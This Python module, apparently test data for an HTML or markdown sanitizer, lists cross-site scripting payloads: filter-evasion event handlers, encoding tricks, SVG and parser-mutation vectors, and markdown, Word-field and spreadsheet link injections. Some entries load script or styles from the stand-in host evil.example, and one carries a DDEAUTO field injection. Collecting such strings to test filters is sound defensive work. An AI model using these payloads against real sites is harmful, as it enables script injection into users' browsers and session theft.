"""More texts that try to become markup, script or links: the families of the OWASP filter evasion sheet, and mutations.

Mutations are texts that turn into something else when a browser writes out what it has read and reads it again.
"""

from __future__ import annotations

_HANDLERS = (
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<button formaction=javascript:alert(1) autofocus onfocus=alert(1)>x</button>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<p/onpointerrawupdate=alert(1)>x",
    "<div style='animation-name:x' onanimationstart=alert(1)>",
    "<frameset onload=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<a\x0chref=javascript:alert(1)>x</a>",
    '" autofocus onfocus="alert(1)',
    "' style='animation-name:x' onanimationstart='alert(1)",
)
_ELEMENTS = (
    "<<script>alert(1);//<</script>",
    "<script/src=//evil.example/x.js></script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<ſcript>alert(1)</ſcript>",
    "＜script＞alert(1)＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "&amp;lt;script&amp;gt;alert(1)",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>",
    "<object type=text/x-scriptlet data=//evil.example/x></object>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<div style=width:expression(alert(1))>",
    "<plaintext>",
    "--><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</div></main></body></html><script>alert(1)</script>",
    "\u2067<script>alert(1)</script>\u2069",
    "\u200f<img src=x onerror=alert(1)>",
)
_DRAWINGS = (
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onload to=alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>#x'>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "</title></svg><script>alert(1)</script>",
    "</text><a href=javascript:alert(1)><text>x</text></a>",
    "<math href=javascript:alert(1)>x</math>",
)
_MUTATIONS = (
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img src=x onerror=alert(1)>'>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=alert(1)>'>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
)
_OTHER_TONGUES = (
    '"};alert(1);//',
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "</script><!--<script>",
    "`${alert(1)}`",
    "feed:javascript:alert(1)",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    '![](x "onerror=alert(1)")',
    "[^1]: <img src=x onerror=alert(1)>",
    "$$\\href{javascript:alert(1)}{x}$$",
    '{ HYPERLINK "javascript:alert(1)" }',
    '=HYPERLINK("javascript:alert(1)")',
    "_x003C_script_x003E_ _x000D_",
    "]]></w:t><w:instrText>DDEAUTO c:\\\\x</w:instrText>",
)
MORE_PAYLOADS = (*_HANDLERS, *_ELEMENTS, *_DRAWINGS, *_MUTATIONS, *_OTHER_TONGUES)
